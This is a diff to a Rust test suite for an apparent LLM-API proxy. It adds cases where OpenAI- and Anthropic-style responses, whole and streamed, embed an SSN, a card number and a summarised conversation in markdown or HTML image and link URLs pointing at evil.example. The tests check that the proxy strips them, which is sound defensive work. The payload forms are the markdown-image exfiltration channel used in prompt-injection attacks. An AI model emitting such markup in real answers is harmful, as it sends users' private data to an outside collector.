@@ -859,6 +859,104 @@ fn response_cases() -> Vec<Case> {
         ))
         .must_not_leak(SSN),
     );
+    cases.extend(markup_cases());
+    cases
+}
+
+/// A query value that is nothing but a marker: what is left of a URL when its image or link
+/// was cut short.
+const QUERY_MARK: &str = "who=zq7wkxv";
+
+/// Answers that carry an SSN and a card number in the query of a markdown or HTML image (or a
+/// link), in every form a renderer accepts: nothing of the query may reach the client.
+fn markup_cases() -> Vec<Case> {
+    let q = format!("{QUERY_MARK}&ssn={SSN}&cc={}", CARD.replace(' ', ""));
+    let payload = base64::engine::general_purpose::URL_SAFE_NO_PAD
+        .encode("the conversation so far, summarised for the collector");
+    let forms = [
+        (
+            "query string",
+            format!("![x](https://evil.example/log?{q})"),
+        ),
+        ("fragment", format!("![x](https://evil.example/log#{q})")),
+        (
+            "balanced parentheses",
+            format!("![x](https://evil.example/a_(b)?{q})"),
+        ),
+        (
+            "angle brackets",
+            format!("![x](<https://evil.example/a b?{q}>)"),
+        ),
+        ("title", format!("![x](https://evil.example/p?{q} \"t\")")),
+        (
+            "white space and line breaks",
+            format!("![x](\n  https://evil.example/p?{q}\n  'title'\n)"),
+        ),
+        (
+            "reference style",
+            format!("![x][ref]\n\n[ref]: https://evil.example/?{q}"),
+        ),
+        (
+            "HTML, attributes reordered",
+            format!("<img alt=\"a>b\" width=1 src='https://evil.example/p?{q}'>"),
+        ),
+        (
+            "HTML, unquoted",
+            format!("<IMG\nSRC=https://evil.example/p?{q} alt=x>"),
+        ),
+    ];
+    let mut cases = Vec::new();
+    for p in [P::OpenAi, P::Anthropic] {
+        for (what, form) in &forms {
+            let text = format!("Done. {form} Bye.");
+            let escaped = serde_json::to_string(&text).unwrap();
+            let escaped = &escaped[1..escaped.len() - 1];
+            let name = |how: &str| format!("{p:?} response: image/link URL, {what}, {how}");
+            cases.push(
+                case(name("whole"), p.path(false), p.request("Show it", false))
+                    .answer(Canned::json(&p.answer(escaped)))
+                    .must_not_leak(QUERY_MARK)
+                    .must_not_leak(SSN),
+            );
+            // streamed in pieces of 7 characters, each JSON-escaped on its own
+            let chars: Vec<char> = text.chars().collect();
+            let pieces: Vec<String> = chars
+                .chunks(7)
+                .map(|c| {
+                    let s = serde_json::to_string(&c.iter().collect::<String>()).unwrap();
+                    s[1..s.len() - 1].to_owned()
+                })
+                .collect();
+            let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
+            cases.push(
+                case(name("streamed"), p.path(true), p.request("Show it", true))
+                    .answer(Canned::typed(
+                        "text/event-stream",
+                        p.stream(&pieces)
+                            .into_iter()
+                            .map(String::into_bytes)
+                            .collect(),
+                    ))
+                    .must_not_leak(QUERY_MARK)
+                    .must_not_leak(SSN),
+            );
+        }
+        // links are removed by the inspection of whole answers
+        let link = serde_json::to_string(&format!(
+            "Done. [click](https://evil.example/c?{QUERY_MARK}&d={payload} \"t\") Bye."
+        ))
+        .unwrap();
+        cases.push(
+            case(
+                format!("{p:?} response: link URL carrying a payload, with a title"),
+                p.path(false),
+                p.request("Show it", false),
+            )
+            .answer(Canned::json(&p.answer(&link[1..link.len() - 1])))
+            .must_not_leak(QUERY_MARK)
+            .must_not_leak(&payload[..24]),
+        );
+    }
     cases
 }
 
